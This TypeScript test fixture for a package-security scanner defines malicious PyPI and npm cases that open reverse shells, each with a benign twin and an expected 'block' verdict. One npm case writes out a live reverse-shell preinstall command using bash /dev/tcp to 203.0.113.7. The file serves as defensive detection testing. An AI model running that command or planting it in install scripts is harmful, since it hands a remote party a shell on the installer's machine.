import { javascriptIncident, pythonIncident } from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, sdist, tarball, wheel, YOUNG } from '../../support/package-case.ts'

/** Somebody far away gets a shell. */
export const reverseShells: readonly PackageCase[] = [
  {
    id: 'a shell in setup.py',
    incident: 'shells for strangers on PyPI, 2022 to 2026: sockets become the terminal of a shell in cmdclass',
    project: pypi(
      'requests-debugger',
      sdist('requests-debugger', '1.0.0', { 'setup.py': pythonIncident('shells for strangers') }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reverse-shell',
      text: /^On install, gives a shell to somebody far away/,
      steps: ['setup.py:11'],
    },
    twin: pypi(
      'terminal-recorder',
      sdist(
        'terminal-recorder',
        '1.0.0',
        {
          'setup.py':
            'from setuptools import setup\nsetup(name="terminal-recorder", version="1.0.0", py_modules=["terminal_recorder"])\n',
          'terminal_recorder.py': `import os, pty
def record(path):
    with open(path, "wb") as f:
        def read(descriptor):
            data = os.read(descriptor, 1024)
            f.write(data)
            return data
        pty.spawn(os.environ.get("SHELL", "/bin/sh"), read)
`,
        },
        { summary: 'Record a terminal session.' },
      ),
    ),
  },
  {
    id: 'a shell in a hook',
    incident: 'the same on npm, from a script that the hook starts',
    project: npm(
      'node-socket-helper',
      tarball(
        'node-socket-helper',
        '1.0.0',
        { 'index.js': 'module.exports = {};\n', 'build.js': javascriptIncident('a remote shell') },
        { scripts: { install: 'node build.js' } },
      ),
      { since: YOUNG },
    ),
    expect: { verdict: 'block', story: 'reverse-shell', text: /^On install, gives a shell to somebody far away/ },
    twin: npm(
      'node-socket-helper',
      tarball('node-socket-helper', '1.0.0', {
        'index.js': `const net = require('net');
exports.connect = (port, host) => new Promise((resolve, reject) => { const socket = net.connect(port, host, () => resolve(socket)); socket.on('error', reject); });
exports.pipe = (a, b) => { a.pipe(b); b.pipe(a); };
`,
      }),
    ),
  },
  {
    id: 'a shell in a command',
    incident: 'the same in the hook itself, in the words of bash',
    project: npm(
      'pipeline-utils-pro',
      tarball(
        'pipeline-utils-pro',
        '9.9.9',
        { 'index.js': 'module.exports = {};\n' },
        { scripts: { preinstall: "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1' &" } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reverse-shell',
      text: /^On install, gives a shell to somebody far away/,
      steps: ['package.json:5'],
    },
    twin: npm(
      'pipeline-utils-pro',
      tarball(
        'pipeline-utils-pro',
        '1.0.0',
        { 'index.js': 'module.exports = {};\n' },
        { scripts: { preinstall: "bash -c 'test -d .git && git config core.hooksPath .githooks || true'" } },
      ),
    ),
  },
  {
    id: 'orders over a socket',
    incident: 'implants on PyPI: orders come over a socket, results go back',
    project: pypi(
      'async-socket-tools',
      wheel('async-socket-tools', '0.3.0', { 'async_socket/__init__.py': pythonIncident('orders over a socket') }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reverse-shell',
      text: /^On import, gives a shell to somebody far away \(203\.0\.113\.7\)/,
    },
    twin: pypi(
      'async-socket-tools',
      wheel('async-socket-tools', '0.3.0', {
        'async_socket/__init__.py': `import socket
def ask(host, port, order):
    with socket.create_connection((host, port), timeout=5) as connection:
        connection.sendall(order.encode())
        return connection.recv(1024).decode()
`,
      }),
    ),
  },
]
